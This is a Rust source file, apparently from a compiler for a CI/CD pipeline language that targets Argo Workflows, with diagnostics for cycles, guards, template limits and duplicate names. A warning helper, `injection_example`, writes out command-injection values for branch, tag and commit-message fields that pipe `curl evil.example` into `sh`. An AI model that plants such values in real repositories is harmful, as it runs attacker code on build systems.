        let Some(Symbol::Environment(id)) = self.program.scope(module).lookup(&name.name) else {
            return Some(target);
        };
        let Some((wanted, span)) = self
            .defs
            .environments
            .get(id.0)
            .and_then(Option::as_ref)
            .and_then(|env| env.replicas)
        else {
            return Some(target);
        };
        target.replicas = match (wanted, replicas?) {
            (EnvironmentReplicas::Fixed(n), Replicas::Fixed(_)) => Some(Replicas::Fixed(n)),
            (EnvironmentReplicas::Fixed(n), Replicas::Autoscaled { cpu_percent, .. }) => Some(Replicas::Autoscaled {
                min: n,
                max: n,
                cpu_percent,
            }),
            (EnvironmentReplicas::Range(min, max), Replicas::Autoscaled { cpu_percent, .. }) => {
                Some(Replicas::Autoscaled { min, max, cpu_percent })
            }
            (EnvironmentReplicas::Range(..), Replicas::Fixed(_)) => {
                self.report(
                    Diagnostic::new(
                        Code::E0308,
                        name.span,
                        format!(
                            "environment `{}` gives a range of replicas to a service that does not autoscale",
                            name.name
                        ),
                    )
                    .label("deployed here")
                    .secondary(span, "a range needs an autoscaler")
                    .help("give the environment a single number of replicas, or the service an `autoscale` target"),
                );
                return None;
            }
        };
        Some(target)
    }

    /// A `when` condition.
    fn guard(&mut self, guard: &ast::Guard, scope: &mut ValueScope<'_, '_>) -> Option<Guard> {
        match guard {
            ast::Guard::Or(left, right) => {
                let left = self.guard(left, scope);
                let right = self.guard(right, scope);
                Some(Guard::Or(Box::new(left?), Box::new(right?)))
            }
            ast::Guard::And(left, right) => {
                let left = self.guard(left, scope);
                let right = self.guard(right, scope);
                Some(Guard::And(Box::new(left?), Box::new(right?)))
            }
            ast::Guard::Test {
                subject,
                equal,
                value,
                span,
            } => {
                let subject_span = match (subject.first(), subject.last()) {
                    (Some(first), Some(last)) => first.span.to(last.span),
                    _ => *span,
                };
                let subject_piece = self.reference(subject, subject_span, scope);
                let text = match &value.kind {
                    ExprKind::Str(_) => self.plain_string(value, "the compared value"),
                    ExprKind::Number(number) => Some(number.to_string()),
                    ExprKind::Bool(flag) => Some(flag.to_string()),
                    _ => {
                        self.mismatch(value, "the compared value", "a string");
                        None
                    }
                };
                let subject_piece = match subject_piece? {
                    ValuePiece::Text(_) => {
                        self.report(
                            Diagnostic::new(
                                Code::E0302,
                                subject_span,
                                "this value is known before the pipeline runs",
                            )
                            .label("the condition would always be true, or always false")
                            .help("test an event value (`event.branch`) or a step output (`scan.result`)"),
                        );
                        return None;
                    }
                    piece => piece,
                };
                Some(Guard::Test {
                    subject: subject_piece,
                    equal: *equal,
                    value: text?,
                })
            }
        }
    }

    /// Reports every cycle of the task graph, each once, in the order its tasks wait for each other.
    fn acyclic(&mut self, tasks: &Tasks<'_>, edges_of: &[Vec<Edge>]) -> bool {
        #[derive(Clone, Copy, PartialEq)]
        enum Mark {
            New,
            Active,
            Done,
        }
        let mut marks = vec![Mark::New; edges_of.len()];
        let mut reported: BTreeSet<Vec<usize>> = BTreeSet::new();
        let mut ok = true;
        for start in 0..edges_of.len() {
            if marks.get(start) != Some(&Mark::New) {
                continue;
            }
            // Iterative depth-first search: (task, index of its next edge).
            let mut stack: Vec<(usize, usize)> = vec![(start, 0)];
            if let Some(mark) = marks.get_mut(start) {
                *mark = Mark::Active;
            }
            while let Some(&mut (task, ref mut next)) = stack.last_mut() {
                let Some(edge) = edges_of.get(task).and_then(|edges| edges.get(*next)).copied() else {
                    if let Some(mark) = marks.get_mut(task) {
                        *mark = Mark::Done;
                    }
                    stack.pop();
                    continue;
                };
                *next += 1;
                match marks.get(edge.target) {
                    Some(Mark::New) => {
                        if let Some(mark) = marks.get_mut(edge.target) {
                            *mark = Mark::Active;
                        }
                        stack.push((edge.target, 0));
                    }
                    Some(Mark::Active) => {
                        ok = false;
                        let from = stack.iter().position(|(t, _)| *t == edge.target).unwrap_or(0);
                        // Each task on the stack from there waits for the next one through the edge
                        // it followed last; the top's is the edge that closes the cycle.
                        let cycle: Vec<(usize, Edge)> = stack
                            .get(from..)
                            .unwrap_or(&[])
                            .iter()
                            .filter_map(|&(t, next)| {
                                let followed = edges_of.get(t)?.get(next.checked_sub(1)?)?;
                                Some((t, *followed))
                            })
                            .collect();
                        // `after build` next to a read of `build.digest` is two edges between the same
                        // tasks: one cycle, reported once.
                        if reported.insert(cycle.iter().map(|(t, _)| *t).collect()) {
                            self.report_cycle(tasks, &cycle);
                        }
                    }
                    _ => {}
                }
            }
        }
        ok
    }

    /// One cycle, as `(task, the edge by which it waits for the next)` in order. The edge that closed
    /// it in the search is the primary label; any other would do as well.
    fn report_cycle(&mut self, tasks: &Tasks<'_>, cycle: &[(usize, Edge)]) {
        let name = |task: usize| tasks.decls.get(task).map_or("", |t| t.name.name.as_str());
        let Some(((closing, closing_edge), rest)) = cycle.split_last() else {
            return;
        };
        let mut order: Vec<String> = cycle.iter().map(|(task, _)| format!("`{}`", name(*task))).collect();
        order.push(format!("`{}`", name(closing_edge.target)));
        let mut diagnostic = Diagnostic::new(
            Code::E0401,
            closing_edge.span,
            "the tasks of this pipeline wait for each other in a cycle",
        )
        .label(format!(
            "`{}` waits for `{}`",
            name(*closing),
            name(closing_edge.target)
        ));
        for (task, edge) in rest {
            diagnostic = diagnostic.secondary(
                edge.span,
                format!("`{}` waits for `{}`", name(*task), name(edge.target)),
            );
        }
        self.report(
            diagnostic
                .note(format!(
                    "{}: none of them can ever start",
                    order.join(", which waits for ")
                ))
                .help("remove one of these `after` edges or output references"),
        );
    }

    /// Argo takes at most [`MAX_TEMPLATES`] templates: count what lowering will emit.
    fn check_template_count(&mut self, block: &ast::Pipeline, tasks: &Tasks<'_>, steps: &[Arc<StepTemplate>]) {
        let n_tasks = tasks.decls.len();
        let mut environments = BTreeSet::new();
        let mut checks = 0;
        let mut approvals = false;
        for task in &tasks.decls {
            match &task.kind {
                ast::TaskKind::Deploy { environment, .. } => {
                    environments.insert(environment.name.as_str());
                }
                ast::TaskKind::Check { .. } => checks += 1,
                ast::TaskKind::Approve => approvals = true,
                ast::TaskKind::Step(_) => {}
            }
        }
        let parts = if n_tasks + 1 > MAX_DAG_TASKS {
            n_tasks.div_ceil(MAX_DAG_TASKS - 1)
        } else {
            0
        };
        let total = 2 + parts + steps.len() + environments.len() + checks + usize::from(approvals);
        if total > MAX_TEMPLATES {
            let plural = |n: usize, one: &str| format!("{n} {one}{}", if n == 1 { "" } else { "s" });
            let mut uses = Vec::new();
            if !steps.is_empty() {
                uses.push(plural(steps.len(), "step definition"));
            }
            if !environments.is_empty() {
                uses.push(plural(environments.len(), "environment") + " deployed to");
            }
            if checks > 0 {
                uses.push(plural(checks, "check"));
            }
            if approvals {
                uses.push("the approvals, which share one".to_string());
            }
            if parts > 0 {
                uses.push(format!("{} holding the {n_tasks} tasks", plural(parts, "nested DAG")));
            }
            uses.push("the entry DAG".to_string());
            uses.push(format!("the `{CLONE_TASK}` task"));
            let last = uses.pop().unwrap_or_default();
            self.report(
                Diagnostic::new(Code::E0405, block.keyword, format!("this pipeline needs {total} Argo templates"))
                    .label(format!("a WorkflowTemplate holds at most {MAX_TEMPLATES}"))
                    .note(format!("one template each: {} and {last}", uses.join(", ")))
                    .help("use fewer step definitions: every use of one definition shares its template; or split the work across services"),
            );
        }
    }
}

/// What a pusher could choose for `field` to run their own commands in a script that pastes it.
fn injection_example(field: EventField) -> String {
    // `$(...)` runs inside double quotes too. Git allows `$`, parentheses, braces and `|` in ref names,
    // though not spaces: `${IFS}` stands in for one.
    let (what, example) = match field {
        EventField::Branch => ("a branch named", "x$(curl${IFS}evil.example|sh)"),
        EventField::Tag => ("a tag named", "v1$(curl${IFS}evil.example|sh)"),
        EventField::Message | EventField::Revision => (
            "a commit message or pull request title such as",
            "$(curl evil.example|sh)",
        ),
    };
    format!("{what} `{example}` would run as part of the script")
}

/// Two tasks that Argo would give the same name.
fn duplicate_task(first: &ast::Task, again: &ast::Task, argo_name: &str) -> Diagnostic {
    let deploy_to = |task: &ast::Task| match &task.kind {
        ast::TaskKind::Deploy { environment, .. } => Some(environment.name.clone()),
        _ => None,
    };
    let (first_name, again_name) = (&first.name.name, &again.name.name);
    let rename_one = "rename one of them".to_string();
    let (message, note, help) = match (deploy_to(first), deploy_to(again)) {
        (Some(environment), Some(_)) if first_name == again_name => (
            format!("the pipeline deploys to `{environment}` twice"),
            None,
            "remove one of the deploys".to_string(),
        ),
        (Some(environment), None) | (None, Some(environment)) => {
            let step = if deploy_to(first).is_some() {
                again_name
            } else {
                first_name
            };
            (
                format!("task `{step}` has the name of the deploy to `{environment}`"),
                Some(format!(
                    "a deploy to `{environment}` is the task `deploy_{environment}`: that is how `after` names it"
                )),
                format!("rename task `{step}`"),
            )
        }
        _ if first_name == again_name => (
            format!("the pipeline has two tasks named `{again_name}`"),
            None,
            rename_one,
        ),
        _ => (
            format!("tasks `{first_name}` and `{again_name}` have the same name in Argo"),
            Some(format!("Argo writes `_` as `-`, so both are the task `{argo_name}`")),
            rename_one,
        ),
    };
    let diagnostic = Diagnostic::new(Code::E0202, again.name.span, message)
        .label("declared again here")
        .secondary(first.name.span, "first declared here")
        .help(help);
    match note {
        Some(note) => diagnostic.note(note),
        None => diagnostic,
    }
}

/// A GitHub owner or repository, or a GitLab group or project.
fn is_repo_segment(segment: &str) -> bool {
    !segment.is_empty()
        && segment
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
}

/// `registry/app:1.2` and `registry/app@sha256:..` name the image `registry/app`, which deploys pin
/// by digest.
fn image_without_version(image: &str) -> String {
    let image = image.split('@').next().unwrap_or(image);
    let slash = image.rfind('/').map_or(0, |at| at + 1);
    match image.get(slash..).and_then(|last| last.find(':')) {
        Some(colon) => image.get(..slash + colon).unwrap_or(image).to_string(),
        None => image.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_image_loses_its_tag_and_digest_but_not_its_registry_port() {
        assert_eq!(
            image_without_version("registry.example.com:5000/shop/app:1.2"),
            "registry.example.com:5000/shop/app"
        );
        assert_eq!(image_without_version("shop/app@sha256:abc"), "shop/app");
        assert_eq!(image_without_version("app"), "app");
    }
}
